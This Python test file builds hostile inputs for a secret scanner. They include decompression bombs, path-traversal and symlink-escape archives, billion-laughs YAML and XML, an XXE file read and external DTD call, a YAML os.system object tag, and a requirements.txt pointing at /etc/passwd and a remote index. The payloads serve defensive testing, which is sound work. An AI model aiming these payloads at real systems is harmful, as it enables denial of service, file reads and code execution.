"""Files that grow when they are opened, that no reader comes to the end of, or whose secret is well hidden."""

from __future__ import annotations

import base64
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib

from backports import zstd

from keyhole.scanners.secrets.shapes import make
from tests.stories.hostile.yard import Verdict, case


def _zip(files, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


@case(Verdict.CUT, "archives in more than 4 others")
def zip_in_zip_in_zip(yard):
    content = b"the end"
    for _ in range(50):
        content = _zip({"again.zip": content})
    yard.commit({"deep.zip": content, "a": yard.token})


@case(Verdict.CUT, "an archive that grows")
def a_small_zip_of_gigabytes(yard):
    layer = _zip({"0": bytes(40 << 20)})
    yard.commit({"42.zip": _zip({f"{each}.zip": layer for each in range(16)}), "a": yard.token})


@case(Verdict.CUT, "an archive that grows")
def a_zip_of_entries_that_overlap(yard):
    one = _zip({"a": bytes(4 << 20)})
    entry, ending = one[one.index(b"PK\1\2") : one.index(b"PK\5\6")], one[one.index(b"PK\5\6") :]
    ending = ending[:8] + struct.pack("<HHI", 9000, 9000, len(entry) * 9000) + ending[16:]
    yard.commit({"b.zip": one[: one.index(b"PK\1\2")] + entry * 9000 + ending, "a": yard.token})


@case(Verdict.CUT, "more than 20,000 files")
def a_zip_of_too_many_files(yard):
    entry = b"PK\1\2" + bytes(42)
    ending = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, len(entry) * 100_000, 0, 0)
    yard.commit({"m.zip": b"PK\3\4" + bytes(26) + entry * 100_000 + ending, "a": yard.token})


@case(Verdict.FOUND)
def names_in_a_zip_that_lead_elsewhere(yard):
    yard.commit({"n.zip": _zip({"../../../escape": yard.token, "/abs\x1b[2J\n": b"x", "C:\\x": b"y"})})


@case(Verdict.FOUND)
def a_tar_that_links_and_then_writes(yard):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        link = tarfile.TarInfo("d")
        link.type, link.linkname = tarfile.SYMTYPE, str(yard.folder)
        archive.addfile(link)
        file = tarfile.TarInfo("d/canary")
        file.size = len(yard.token)
        archive.addfile(file, io.BytesIO(yard.token))
    yard.commit({"t.tar": out.getvalue()})


@case(Verdict.FOUND)
def a_tar_whose_sizes_are_negative(yard):
    header = bytearray(tarfile.TarInfo("a").tobuf())
    header[124:136] = b"\xff" * 12
    huge = bytearray(tarfile.TarInfo("b").tobuf())
    huge[124:136] = b"\x80" + b"\x7f" * 11
    yard.commit({"n.tar": bytes(header) * 3, "h.tar": bytes(huge) * 3, "a": yard.token})


@case(Verdict.CUT, "an archive that grows")
def gzip_and_xz_of_zeros(yard):
    zeros = bytes(150 << 20)
    yard.commit(
        {"z.gz": gzip.compress(zeros, 1), "z.xz": lzma.compress(bytes(60 << 20), preset=0), "a": yard.token}
    )


@case(Verdict.CUT, "needs more than 64 MiB of memory")
def zstandard_of_zeros_and_for_gigabytes(yard):
    squeezer = zstd.ZstdCompressor(options={zstd.CompressionParameter.window_log: 31})
    wide = squeezer.compress(b"text" * 1000) + squeezer.flush()
    zeros = zstd.compress(bytes(512 << 20))
    yard.commit({"w.zst": wide, "z.zst": zeros, "y.tar.zst": zstd.compress(zeros), "x.zst": zeros[:-9],
                 "a.zst": zstd.compress(yard.token)})  # fmt: skip


@case(Verdict.CUT, "needs more than 64 MiB of memory")
def xz_that_wants_four_gigabytes(yard):
    content = bytearray(lzma.compress(b"text", filters=[{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 20}]))
    content[16] = 40  # the dictionary's size; behind it the checksum of the header, which lies, too
    end = 12 + 4 * content[12]
    content[end : end + 4] = zlib.crc32(content[12:end]).to_bytes(4, "little")
    yard.commit({"d.xz": bytes(content), "a": yard.token})


@case(Verdict.FOUND)
def a_secret_five_wrappings_deep(yard):
    inner = gzip.compress(b"x = '" + base64.b64encode(b"secret: " + yard.token) + b"'")
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        file = tarfile.TarInfo("conf.gz")
        file.size = len(inner)
        archive.addfile(file, io.BytesIO(inner))
    yard.commit({"w.zip": _zip({"w.tar": out.getvalue()})})


@case(Verdict.FOUND)
def encrypted_and_unknown_archives(yard):
    locked = bytearray(_zip({"a": b"text" * 50}))
    locked[6] |= 1
    locked[locked.index(b"PK\1\2") + 8] |= 1
    yard.commit(
        {
            "l.zip": bytes(locked),
            "s.7z": b"7z\xbc\xaf\x27\x1c" + b"x" * 50,
            "r.rar": b"Rar!\x1a\x07\0",
            "a": yard.token,
        }
    )


@case(Verdict.FOUND)
def text_that_is_all_beginnings(yard):
    files = {
        f"r{each}": piece * (4_000_000 // len(piece))
        for each, piece in enumerate(
            (b"AKIA", b"ghp_", b"://a:b@", b"-----BEGIN RSA PRIVATE KEY-----\n", b"password=", b"eyJ")
        )
    }
    yard.commit({**files, "a": yard.token})


@case(Verdict.NOT_CLEAN)
def text_that_is_nearly_all_matches(yard):
    key = make("AKIA<base32:16>", 1).encode()
    yard.commit({"m": (key + b"\n") * 40_000, "s": b"api_key = 'aB3$xY9!kL2@' " * 10_000, "a": yard.token})


@case(Verdict.FOUND)
def base64_of_nothing_in_particular(yard):
    files = {
        f"b{each}": b"c2VjcmV0" + piece * (1_000_000 // len(piece))
        for each, piece in enumerate((b"A", b"ICAg", b"Z2hwX"))
    }
    yard.commit({**files, "a": yard.token})


@case(Verdict.CUT, "compressed texts in base64")
def base64_of_gzip_of_zeros_again_and_again(yard):
    bomb = base64.b64encode(gzip.compress(bytes(16 << 20)))
    nested = base64.b64encode(gzip.compress(b"\n\n".join([bomb] * 50)))
    yard.commit({"many": b"\n\n".join([bomb] * 500), "nested": b"\n\n".join([nested] * 500), "a": yard.token})


@case(Verdict.FOUND)
def base64_of_base64_of_base64(yard):
    content = b"secret " * 300_000
    for _ in range(6):
        content = base64.b64encode(content)
    yard.commit({"b": b"c2VjcmV0 " + content, "a": yard.token})


@case(Verdict.CUT, "more than 10000 findings")
def more_secrets_than_anybody_reads(yard):
    tokens = (make("npm_<alnum:36>", each).encode() for each in range(10_500))
    yard.commit({"m": b"\n".join(tokens)})
    yard.commit({"m": b"gone"})


@case(Verdict.FOUND)
def wide_characters_and_zeros(yard):
    text = ("nothing here\n" * 2_000_000 + yard.token.decode() + "\n").encode("utf-16-le")
    yard.commit({"w": text, "z": bytes(5 << 20) + b"\xff\xfe"})


@case(Verdict.FOUND)
def bytes_that_are_no_text(yard):
    yard.commit({"a": b"\xff\xfe\xfd\x80" * 1000 + b"\n\x1b[31m" + yard.token + b"\xc3\x28" * 1000})


@case(Verdict.CUT, "was not assessed")
def lock_files_without_end(yard):
    deep = b'{"dependencies":' * 100_000
    yard.commit({
        "package-lock.json": deep, "j/composer.lock": b"[" * 500_000,
        "n/package-lock.json": b'{"lockfileVersion":' + b"9" * 200_000 + b"}",
        "t/Cargo.lock": b"a=" + b"[" * 100_000, "p/poetry.lock": b"[a" + b".a" * 100_000 + b"]", "a": yard.token,
    })  # fmt: skip


@case(Verdict.NOT_CLEAN)
def yaml_that_laughs(yard):
    lines = [b"a0: &a0 [lol]"] + [
        b"a%d: &a%d [%s]" % (n, n, b",".join([b"*a%d" % (n - 1)] * 9)) for n in range(1, 11)
    ]
    laughs = b"lockfileVersion: '9.0'\npackages:\n" + b"\n".join(lines) + b"\n"
    deep = b"".join(b" " * each + b"a:\n" for each in range(2000))
    yard.commit(
        {
            "pnpm-lock.yaml": laughs,
            "d/pnpm-lock.yaml": deep,
            "e/pubspec.lock": b"!!python/object/apply:os.system ['true']\n",
            "a": yard.token,
        }
    )


@case(Verdict.CUT, "was not assessed")
def xml_that_laughs_and_reads_and_calls(yard):
    entities = b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    laughs = b'<!DOCTYPE project [<!ENTITY a0 "ha">%s]><project>&a9;</project>' % entities
    reads = (
        b'<!DOCTYPE project [<!ENTITY x SYSTEM "file://%s">]><project><version>&x;</version></project>'
        % str(yard.outside).encode()
    )
    calls = b'<!DOCTYPE project SYSTEM "http://%s/x.dtd"><project/>' % yard.address.encode()
    yard.commit(
        {
            "pom.xml": laughs,
            "r/pom.xml": reads,
            "c/pom.xml": calls,
            "d/pom.xml": b"<project>" * 100_000,
            "a": yard.token,
        }
    )


@case(Verdict.NOT_CLEAN)
def packages_beyond_counting(yard):
    many = {
        f"node_modules/p{each}": {"version": "1.0.0", "dependencies": {f"p{each + 1}": "*"}}
        for each in range(200_000)
    }
    many["node_modules/p200000"] = {"version": "1.0.0", "dependencies": {"p0": "*"}}
    yard.commit(
        {"package-lock.json": json.dumps({"lockfileVersion": 3, "packages": many}).encode(), "a": yard.token}
    )


@case(Verdict.NOT_CLEAN)
def requirements_that_go_round_and_call(yard):
    calls = f"--index-url http://{yard.address}/simple\nx @ http://{yard.address}/x.whl\n"
    yard.commit({
        "requirements.txt": b"-r requirements.txt\n-r /etc/passwd\n" + calls.encode(),
        "go.sum": b"\0\xff" * 1000,
        "yarn.lock": b'"@@@":\n  version "' * 5000,
        "Gemfile.lock": b"GEM\n  specs:\n" + b"    x (" * 5000,
        "a": yard.token,
    })  # fmt: skip
